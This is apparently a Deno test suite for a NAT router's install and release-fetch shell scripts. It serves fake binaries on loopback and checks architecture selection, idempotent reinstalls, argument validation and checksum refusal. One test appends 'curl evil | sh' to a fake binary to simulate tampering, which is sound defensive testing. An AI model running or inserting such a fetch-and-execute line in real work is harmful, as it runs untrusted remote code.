/**
 * @module Runs scripts/install.sh and scripts/fetch-release.sh against fake release assets
 * served on 127.0.0.1 (a tiny shell script stands in for each architecture's binary), into
 * temporary prefixes: right file per architecture, checksum refusal, idempotency.
 */
import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";

const ROOT = fileURLToPath(new URL("..", import.meta.url));
const TAG = "v0.0.0-test";
const VPC = "vpc-0123abcd";
const ARCHS = { x86_64: "x86_64-unknown-linux-gnu", aarch64: "aarch64-unknown-linux-gnu" };
type Arch = keyof typeof ARCHS;

const fakeBinary = (arch: Arch) => `#!/bin/sh\necho "fake aws-nat-router ${ARCHS[arch]}"\n`;
const asset = (arch: Arch) => `aws-nat-router-${ARCHS[arch]}`;

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return Array.from(new Uint8Array(digest), (b) => b.toString(16).padStart(2, "0")).join("");
}

/** A release download root on loopback; `files` can be changed to tamper with assets. */
async function fakeRelease() {
  const files = new Map<string, string>();
  const sums = [];
  for (const arch of Object.keys(ARCHS) as Arch[]) {
    files.set(`/${TAG}/${asset(arch)}`, fakeBinary(arch));
    sums.push(`${await sha256(fakeBinary(arch))}  ${asset(arch)}\n`);
  }
  files.set(`/${TAG}/SHA256SUMS`, sums.join(""));
  const requests: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    const path = new URL(request.url).pathname;
    requests.push(path);
    const body = files.get(path);
    return body === undefined ? new Response("not found", { status: 404 }) : new Response(body);
  });
  return { files, requests, server, baseUrl: `http://127.0.0.1:${server.addr.port}` };
}

interface Run {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

async function bash(args: string[], env: Record<string, string> = {}): Promise<Run> {
  const { code, stdout, stderr } = await new Deno.Command("bash", {
    args,
    cwd: ROOT,
    // Loopback never goes through a proxy, whatever the environment says.
    env: { ...env, NO_PROXY: "127.0.0.1,localhost", no_proxy: "127.0.0.1,localhost" },
    stdout: "piped",
    stderr: "piped",
  }).output();
  const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { code, stdout: decode(stdout), stderr: decode(stderr) };
}

/** Every file under `dir`, relative, sorted. */
async function listFiles(dir: string, prefix = ""): Promise<string[]> {
  const found: string[] = [];
  for await (const entry of Deno.readDir(`${dir}${prefix}`)) {
    const path = `${prefix}/${entry.name}`;
    if (entry.isDirectory) found.push(...await listFiles(dir, path));
    else found.push(path);
  }
  return found.sort();
}

async function mtimes(dir: string): Promise<Record<string, number | undefined>> {
  const times: Record<string, number | undefined> = {};
  for (const path of await listFiles(dir)) {
    times[path] = (await Deno.stat(`${dir}${path}`)).mtime?.getTime();
  }
  return times;
}

const INSTALLED = [
  "/etc/aws-nat-router/env",
  "/etc/systemd/system/aws-nat-router.service",
  "/usr/local/bin/aws-nat-router",
  "/usr/local/libexec/aws-nat-router/fetch-release.sh",
];

Deno.test("scripts/install.sh", async (t) => {
  const release = await fakeRelease();
  const tmp = await Deno.makeTempDir({ prefix: "ship_install_" });
  const install = (prefix: string, arch: Arch, extra: string[] = []) =>
    bash([
      "scripts/install.sh",
      ...["--base-url", release.baseUrl, "--version", TAG, "--arch", arch],
      ...["--vpc-id", VPC, "--prefix", prefix, "--no-enable", ...extra],
    ]);
  try {
    for (const arch of Object.keys(ARCHS) as Arch[]) {
      await t.step(
        `install.sh --arch ${arch} installs that binary, the unit, helper and env`,
        async () => {
          const prefix = `${tmp}/${arch}`;
          const result = await install(prefix, arch);
          assert.equal(result.code, 0, result.stderr);
          assert.deepEqual(await listFiles(prefix), INSTALLED);
          const bin = `${prefix}/usr/local/bin/aws-nat-router`;
          assert.equal(await Deno.readTextFile(bin), fakeBinary(arch));
          assert.equal((await Deno.stat(bin)).mode! & 0o777, 0o755);
          const ran = await bash(["-c", `exec "$0"`, bin]);
          assert.equal(ran.stdout, `fake aws-nat-router ${ARCHS[arch]}\n`, "binary is executable");
          for (
            const [installed, source] of [
              ["/etc/systemd/system/aws-nat-router.service", "scripts/aws-nat-router.service"],
              ["/usr/local/libexec/aws-nat-router/fetch-release.sh", "scripts/fetch-release.sh"],
            ]
          ) {
            assert.equal(
              await Deno.readTextFile(`${prefix}${installed}`),
              await Deno.readTextFile(`${ROOT}/${source}`),
            );
          }
          const env = await Deno.readTextFile(`${prefix}/etc/aws-nat-router/env`);
          for (
            const line of [
              `VPC_ID=${VPC}`,
              "CLUSTER_ID=squid",
              `RELEASE_TAG=${TAG}`,
              `RELEASE_BASE_URL=${release.baseUrl}`,
              `RELEASE_SHA256=${await sha256(fakeBinary(arch))}`,
            ]
          ) assert.ok(env.split("\n").includes(line), `env file lacks ${line}:\n${env}`);
          assert.match(result.stdout, /installed\n$/);
        },
      );
    }

    await t.step(
      "a second run changes nothing, says unchanged and skips the download",
      async () => {
        const prefix = `${tmp}/x86_64`;
        const before = await mtimes(prefix);
        const downloads = release.requests.length;
        const result = await install(prefix, "x86_64");
        assert.equal(result.code, 0, result.stderr);
        assert.deepEqual(await mtimes(prefix), before);
        for (const path of INSTALLED) {
          assert.ok(result.stdout.includes(`unchanged ${prefix}${path}`));
        }
        assert.doesNotMatch(result.stdout, /^installed /m);
        assert.match(result.stdout, /\(x86_64-unknown-linux-gnu\) unchanged\n$/);
        assert.deepEqual(release.requests.slice(downloads), [`/${TAG}/SHA256SUMS`]);
      },
    );

    await t.step(
      "a tampered binary is refused with one clear line and nothing is installed",
      async () => {
        const original = release.files.get(`/${TAG}/${asset("x86_64")}`)!;
        release.files.set(`/${TAG}/${asset("x86_64")}`, `${original}curl evil | sh\n`);
        try {
          const prefix = `${tmp}/tampered`;
          await Deno.mkdir(prefix);
          const result = await install(prefix, "x86_64");
          assert.notEqual(result.code, 0);
          assert.match(
            result.stderr,
            /^install\.sh: Checksum mismatch for aws-nat-router-x86_64-unknown-linux-gnu \(v0\.0\.0-test\): expected [0-9a-f]{64}, got [0-9a-f]{64}; nothing was installed\n$/,
          );
          assert.deepEqual(await listFiles(prefix), [], "no binary, no unit, no env file");
        } finally {
          release.files.set(`/${TAG}/${asset("x86_64")}`, original);
        }
      },
    );

    await t.step("bad arguments are refused before any download, naming the flag", async () => {
      const downloads = release.requests.length;
      const cases: [string[], RegExp][] = [
        [["--vpc-id", "subnet-1"], /Invalid --vpc-id "subnet-1"/],
        [["--cluster-id", "a b"], /Invalid --cluster-id "a b"/],
        [["--arch", "mips"], /Unsupported architecture "mips"/],
        [["--bogus"], /Unknown argument "--bogus"/],
      ];
      for (const [extra, message] of cases) {
        const result = await install(`${tmp}/bad`, "x86_64", extra);
        assert.notEqual(result.code, 0, extra.join(" "));
        assert.match(result.stderr, message);
      }
      assert.equal(release.requests.length, downloads);
      await assert.rejects(Deno.stat(`${tmp}/bad`), Deno.errors.NotFound);
    });
  } finally {
    await release.server.shutdown();
    await Deno.remove(tmp, { recursive: true });
  }
});

Deno.test("scripts/fetch-release.sh", async (t) => {
  const release = await fakeRelease();
  const tmp = await Deno.makeTempDir({ prefix: "ship_fetch_" });
  const bin = `${tmp}/aws-nat-router`;
  const fetch = (env: Record<string, string> = {}) =>
    bash(["scripts/fetch-release.sh"], {
      RELEASE_TAG: TAG,
      RELEASE_BASE_URL: release.baseUrl,
      RELEASE_BIN: bin,
      RELEASE_ARCH: "aarch64",
      ...env,
    });
  try {
    await t.step(
      "fetch-release.sh installs the release's binary for this architecture",
      async () => {
        const result = await fetch();
        assert.equal(result.code, 0, result.stderr);
        assert.equal(await Deno.readTextFile(bin), fakeBinary("aarch64"));
        assert.equal((await Deno.stat(bin)).mode! & 0o777, 0o755);
        assert.deepEqual(await listFiles(tmp), ["/aws-nat-router"], "no staging file left behind");
      },
    );

    await t.step("with a pinned checksum that matches, it downloads nothing", async () => {
      const requests = release.requests.length;
      const before = await mtimes(tmp);
      const result = await fetch({ RELEASE_SHA256: await sha256(fakeBinary("aarch64")) });
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stderr, /unchanged/);
      assert.equal(release.requests.length, requests);
      assert.deepEqual(await mtimes(tmp), before);
    });

    await t.step("a download that does not match the checksum is refused", async () => {
      await Deno.writeTextFile(bin, "old binary\n", { mode: 0o755 });
      release.files.set(`/${TAG}/${asset("aarch64")}`, "tampered\n");
      const result = await fetch();
      assert.equal(result.code, 1);
      assert.match(result.stderr, /Checksum mismatch for aws-nat-router-aarch64-unknown-linux-gnu/);
      assert.equal(await Deno.readTextFile(bin), "old binary\n", "installed binary untouched");
      assert.deepEqual(await listFiles(tmp), ["/aws-nat-router"], "no staging file left behind");
    });
  } finally {
    await release.server.shutdown();
    await Deno.remove(tmp, { recursive: true });
  }
});
